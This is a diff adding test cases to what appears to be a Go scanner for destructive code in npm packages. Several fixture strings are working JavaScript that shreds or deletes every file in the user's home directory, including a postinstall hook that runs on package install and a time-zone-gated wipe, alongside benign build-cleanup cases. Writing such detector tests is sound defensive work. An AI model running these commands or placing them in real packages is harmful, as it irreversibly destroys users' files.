@@ -20,5 +20,16 @@ func TestDestructiveFS(t *testing.T) {
 		{"geo_gated", map[string]string{"index.js": `const fs=require("fs"),os=require("os"); if (Intl.DateTimeFormat().resolvedOptions().timeZone === "X/Y") fs.rmSync(os.homedir(), {recursive: true})`}, finding.SeverityCritical},
 		{"rm_rf_home", map[string]string{"index.js": `require("child_process").execSync("rm -rf ~ ")`}, finding.SeverityHigh},
 		{"clean_build_dir", map[string]string{"index.js": `require("fs").rmSync("./dist", {recursive: true})`}, finding.SeverityNone},
+		// every file found under the home directory, shredded
+		{"find_shred_homedir", map[string]string{"index.js": "const os = require(\"os\"); require(\"child_process\").execSync(`find ${os.homedir()} -type f -writable -print0 | xargs -0 -r shred -uvz -n 1`)"}, finding.SeverityHigh},
+		{"find_delete_home", map[string]string{"index.js": `require("child_process").exec("find $HOME -type f -delete")`}, finding.SeverityHigh},
+		{"at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node w.js"}}`,
+			"w.js": `require("child_process").execSync("find ~ -type f -exec shred -u {} +")`}, finding.SeverityCritical},
+		{"windows_rd_profile", map[string]string{"index.js": `require("child_process").execSync("rd /s /q %USERPROFILE%")`}, finding.SeverityHigh},
+		{"powershell_remove_profile", map[string]string{"index.js": `require("child_process").execSync("powershell -c Remove-Item -Recurse -Force $env:USERPROFILE")`}, finding.SeverityHigh},
+		// cleaning up the package's own files
+		{"find_delete_build", map[string]string{"index.js": `require("child_process").execSync("find ./build -name '*.tmp' -delete")`}, finding.SeverityNone},
+		{"xargs_rm_dist", map[string]string{"index.js": "const d = require(\"path\").join(__dirname, \"dist\"); require(\"child_process\").execSync(`find ${d} -name '*.map' | xargs rm -f`)"}, finding.SeverityNone},
+		{"rd_build", map[string]string{"index.js": `require("child_process").execSync("rd /s /q build")`}, finding.SeverityNone},
 	})
 }
